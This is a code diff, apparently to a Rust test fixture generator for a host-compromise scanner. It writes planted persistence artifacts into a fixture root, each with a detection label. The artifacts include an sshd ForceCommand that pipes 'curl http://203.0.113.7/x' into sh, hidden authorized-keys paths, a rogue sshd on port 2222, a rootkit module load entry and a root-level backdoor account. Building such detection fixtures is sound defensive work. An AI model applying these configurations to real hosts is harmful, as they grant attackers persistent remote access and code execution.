@@ -216,6 +216,37 @@ pub fn malicious(root: &Path) -> std::io::Result<Vec<Planted>> {
     )?;
     add("net_hook.tmp_exec", "/etc/network/if-up.d/ntpsync");
 
+    write(root, "/etc/init.d/ssh-procps", b"#!/bin/sh\n### BEGIN INIT INFO\n# Provides: ssh-procps\n### END INIT INFO\n/usr/sbin/sshd2 -p 2222\n", 0o755)?;
+    add("init.unowned", "/etc/init.d/ssh-procps");
+    write(root, "/etc/modules-load.d/hid.conf", b"diamorphine\n", 0o644)?;
+    add("kmod_load.rootkit_name", "/etc/modules-load.d/hid.conf");
+    write(
+        root,
+        "/etc/ssh/sshd_config.d/90-keys.conf",
+        b"AuthorizedKeysFile .ssh/authorized_keys /var/lib/.keys/%u\nPermitUserEnvironment yes\n",
+        0o644,
+    )?;
+    add("sshd.keys_file", "/etc/ssh/sshd_config.d/90-keys.conf");
+    add("sshd.user_environment", "/etc/ssh/sshd_config.d/90-keys.conf");
+    write(
+        root,
+        "/etc/ssh/sshd_config.d/91-force.conf",
+        b"Match User git\n  ForceCommand /bin/bash -c 'curl -s http://203.0.113.7/x | sh'\n",
+        0o644,
+    )?;
+    add("sshd.download_exec", "/etc/ssh/sshd_config.d/91-force.conf");
+    write(root, "/dev/.lp0", b"stolen credentials\n", 0o644)?;
+    add("file.dev_regular", "/dev/.lp0");
+    copy_elf(root, "/usr/sbin/sshd2", 0o755)?;
+    add("file.unowned_system_binary", "/usr/sbin/sshd2");
+    write(
+        root,
+        "/var/www/html/uploads/thumb.php",
+        b"<?php echo 'ok'; ?>\n",
+        0o644,
+    )?;
+    add("web.script_in_uploads", "/var/www/html/uploads/thumb.php");
+
     append(root, "/etc/passwd", b"backup2:x:0:0::/root:/bin/bash\n")?;
     append(
         root,
